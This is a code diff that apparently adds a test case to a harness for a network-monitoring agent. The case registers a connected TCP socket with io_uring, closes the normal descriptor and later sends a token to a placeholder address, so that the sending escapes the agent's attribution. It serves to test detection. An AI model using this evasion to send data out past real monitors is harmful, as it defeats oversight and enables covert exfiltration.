@@ -107,6 +107,28 @@ ATTACK(uring_sendmsg)
     sent();
 }
 
+// Registered with a ring and closed, so that no process has a descriptor of it when the agent starts.
+ATTACK(before_uring)
+{
+    struct ring ring = set_up();
+    struct sockaddr_in to = v4("WIRE4", "PORT");
+    int fd = tcp4();
+    connect_to(fd, &to, sizeof to);
+    must((int)syscall(SYS_io_uring_register, ring.fd, IORING_REGISTER_FILES, &fd, 1), "io_uring_register");
+    must(close(fd), "close");
+    say("ready");
+    wait_for_go();
+    operate(&ring,
+            (struct io_uring_sqe){.opcode = IORING_OP_SEND,
+                                  .fd = 0,
+                                  .flags = IOSQE_FIXED_FILE,
+                                  .addr = (uintptr_t)token(),
+                                  .len = (uint32_t)strlen(token()),
+                                  .msg_flags = MSG_NOSIGNAL},
+            "send");
+    sent();
+}
+
 static struct ring roots;
 static uint16_t root;
 
